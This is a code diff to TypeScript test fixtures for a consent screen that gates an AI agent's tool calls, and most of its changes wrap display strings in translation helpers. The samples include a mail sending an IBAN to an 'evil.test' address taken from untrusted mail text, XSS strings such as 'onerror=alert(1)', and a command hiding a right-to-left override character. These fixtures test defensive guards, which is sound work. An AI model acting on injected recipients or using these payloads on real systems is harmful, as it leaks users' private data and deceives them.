@@ -4,6 +4,7 @@ import type { Label, LeafOrigin } from '../../../shared/permission.ts'
 import { form, formSecret, monster, url } from './asking.ts'
 import { secrets } from './secrets.ts'
 import { assessment, NOW, office, question } from './question.ts'
+import { inEach, told } from '../../../shared/told.ts'
 
 const mail: Label = {
   serverId: office,
@@ -29,22 +30,22 @@ const fromMail = (pointer: string, kind: LeafOrigin['kind']): LeafOrigin => ({
 
 const cancel = question('cancel', {
   effects: ['delete', 'send'],
-  args: { event_id: 'ev_8821', reason: 'Clearing the afternoon', notify: true },
-  sentence: [
+  args: { event_id: 'ev_8821', reason: told`Clearing the afternoon`, notify: true },
+  sentence: inEach(() => [
     { text: 'Cancel', strong: true },
     { text: ' the event ' },
     { text: '1:1 with the CEO', strong: true },
     { text: ' (Tue 24 Nov, 14:00) and tell ' },
     { text: '2', strong: true },
     { text: ' people' },
-  ],
+  ]),
   preview: {
     source: 'get_event',
     title: '1:1 with the CEO',
     before: [
-      { field: 'When', value: 'Tue 24 Nov 2026, 14:00 – 14:30' },
-      { field: 'Where', value: 'Room 4, second floor' },
-      { field: 'Calendar', value: 'Work' },
+      { field: 'When', value: inEach(() => 'Tue 24 Nov 2026, 14:00 – 14:30') },
+      { field: 'Where', value: inEach(() => 'Room 4, second floor') },
+      { field: 'Calendar', value: inEach(() => 'Work') },
     ],
     after: [],
     people: ['Ada Okafor (CEO)', 'Robin Castell'],
@@ -64,24 +65,24 @@ const cancel = question('cancel', {
 
 const update = question('update', {
   args: { event_id: 'ev_12', start: '2026-11-25T10:00', title: 'Design review' },
-  sentence: [
+  sentence: inEach(() => [
     { text: 'Move', strong: true },
     { text: ' the event ' },
     { text: 'Design review', strong: true },
     { text: ' from Tuesday 15:00 to Wednesday 10:00' },
-  ],
+  ]),
   preview: {
     source: 'get_event',
     title: 'Design review',
     before: [
-      { field: 'Start', value: 'Tue 24 Nov, 15:00' },
-      { field: 'Notes', value: 'Bring the sketches\nRoom is booked\nCoffee: Sam' },
-      { field: 'Where', value: 'Room 2' },
+      { field: 'Start', value: inEach(() => 'Tue 24 Nov, 15:00') },
+      { field: 'Notes', value: inEach(() => 'Bring the sketches\nRoom is booked\nCoffee: Sam') },
+      { field: 'Where', value: inEach(() => 'Room 2') },
     ],
     after: [
-      { field: 'Start', value: 'Wed 25 Nov, 10:00' },
-      { field: 'Notes', value: 'Bring the sketches\nRoom is not booked yet\nCoffee: Sam' },
-      { field: 'Where', value: 'Room 2' },
+      { field: 'Start', value: inEach(() => 'Wed 25 Nov, 10:00') },
+      { field: 'Notes', value: inEach(() => 'Bring the sketches\nRoom is not booked yet\nCoffee: Sam') },
+      { field: 'Where', value: inEach(() => 'Room 2') },
     ],
     people: [],
   },
@@ -98,11 +99,11 @@ const send = question('send', {
     subject: 'Invoice 2041',
     body: `Dear all,\n\nplease find the figures below.\n${'IBAN DE89 3704 0044 0532 0130 00 and the rest of a longer text. '.repeat(16)}`,
   },
-  sentence: [
+  sentence: inEach(() => [
     { text: 'Send', strong: true },
     { text: ' a mail to ' },
     { text: 'billing@northwind-labs.example.evil.test', strong: true },
-  ],
+  ]),
   origins: [fromMail('/to/0', 'address')],
   flows: [
     {
@@ -118,19 +119,23 @@ const send = question('send', {
     decidedBy: {
       kind: 'guard',
       id: 'guard.untrustedInfluence',
-      sentence: 'An address came from text of others and not from you.',
+      sentence: told`An address came from text of others and not from you.`,
     },
     reasons: [
-      { kind: 'guard', id: 'guard.leavingData', sentence: 'Private data would leave after text of others was read.' },
+      {
+        kind: 'guard',
+        id: 'guard.leavingData',
+        sentence: told`Private data would leave after text of others was read.`,
+      },
     ],
     warnings: [
       {
         kind: 'untrustedInfluence',
-        sentence: 'The recipient came from the mail “Re: invoice 2041”, not from you.',
+        sentence: told`The recipient came from the mail “Re: invoice 2041”, not from you.`,
         pointers: ['/to/0'],
       },
-      { kind: 'leavingData', sentence: 'A bank account number would leave this device.', pointers: ['/body'] },
-      { kind: 'secret', sentence: 'The text holds what looks like an IBAN.', pointers: ['/body'] },
+      { kind: 'leavingData', sentence: told`A bank account number would leave this device.`, pointers: ['/body'] },
+      { kind: 'secret', sentence: told`The text holds what looks like an IBAN.`, pointers: ['/body'] },
     ],
   },
 })
@@ -138,14 +143,14 @@ const send = question('send', {
 const drift = question('drift', {
   args: { path: '/home/robin/notes/todo.md', content: 'Buy milk' },
   toolTitle: 'Write file',
-  sentence: [
+  sentence: inEach(() => [
     { text: 'Write', strong: true },
     { text: ' the file ' },
     { text: '/home/robin/notes/todo.md', strong: true },
-  ],
+  ]),
   assessment: {
     ...assessment(['write'], 'partly'),
-    disagreement: 'The server says that it only reads; its name says write. The stricter counted.',
+    disagreement: told`The server says that it only reads; its name says write. The stricter counted.`,
   },
   drift: {
     fields: [
@@ -159,15 +164,15 @@ const drift = question('drift', {
   },
   decision: {
     verdict: 'ask',
-    decidedBy: { kind: 'guard', id: 'guard.pin', sentence: 'The tool changed since you allowed it.' },
+    decidedBy: { kind: 'guard', id: 'guard.pin', sentence: told`The tool changed since you allowed it.` },
     reasons: [],
     warnings: [
       {
         kind: 'definitionChanged',
-        sentence: 'Its description and its arguments changed on 22 November.',
+        sentence: told`Its description and its arguments changed on 22 November.`,
         pointers: [],
       },
-      { kind: 'shadowing', sentence: 'The server “Files 2” has a tool with nearly the same name.', pointers: [] },
+      { kind: 'shadowing', sentence: told`The server “Files 2” has a tool with nearly the same name.`, pointers: [] },
     ],
   },
 })
@@ -183,21 +188,21 @@ const hidden = question('hidden', {
     html: '<img src=x onerror=alert(1)> **bold** [link](javascript:alert(1))',
     name: 'n'.repeat(10_000),
   },
-  sentence: [
+  sentence: inEach(() => [
     { text: 'Run', strong: true },
     { text: ' the command ' },
     { text: 'echo safe\u202Egnp.txt', strong: true },
-  ],
+  ]),
   servesSentence: null,
   accountName: null,
   decision: {
     verdict: 'ask',
-    decidedBy: { kind: 'guard', id: 'guard.hidden', sentence: 'Hidden characters stand in the arguments.' },
+    decidedBy: { kind: 'guard', id: 'guard.hidden', sentence: told`Hidden characters stand in the arguments.` },
     reasons: [],
     warnings: [
       {
         kind: 'hiddenCharacters',
-        sentence: 'The argument command holds 3 characters that cannot be seen.',
+        sentence: told`The argument command holds 3 characters that cannot be seen.`,
         pointers: ['/command'],
       },
     ],
@@ -209,7 +214,11 @@ const read = (id: string, title: string) =>
     effects: ['read'],
     args: { query: title },
     toolTitle: 'Search mail',
-    sentence: [{ text: 'Search', strong: true }, { text: ' your mail for ' }, { text: title, strong: true }],
+    sentence: inEach(() => [
+      { text: 'Search', strong: true },
+      { text: ' your mail for ' },
+      { text: title, strong: true },
+    ]),
     assessment: assessment(['read'], 'yes'),
   })
 
@@ -218,12 +227,12 @@ const spend = question('spend', {
   effects: ['spend', 'send'],
   toolTitle: 'Pay invoice',
   args: { invoice: '2041', amount: 1290.5, currency: 'EUR' },
-  sentence: [
+  sentence: inEach(() => [
     { text: 'Pay', strong: true },
     { text: ' invoice 2041: ' },
     { text: '1,290.50 EUR', strong: true },
     { text: ' to Northwind Labs' },
-  ],
+  ]),
 })
 
 export const questions: Readonly<Record<string, ConsentRequest>> = {
@@ -241,7 +250,7 @@ export const questions: Readonly<Record<string, ConsentRequest>> = {
   plain: question('plain', {
     args: {},
     offers: [],
-    sentence: [{ text: 'List', strong: true }, { text: ' everything' }],
+    sentence: inEach(() => [{ text: 'List', strong: true }, { text: ' everything' }]),
   }),
 }
 export const queue: readonly ConsentRequest[] = [
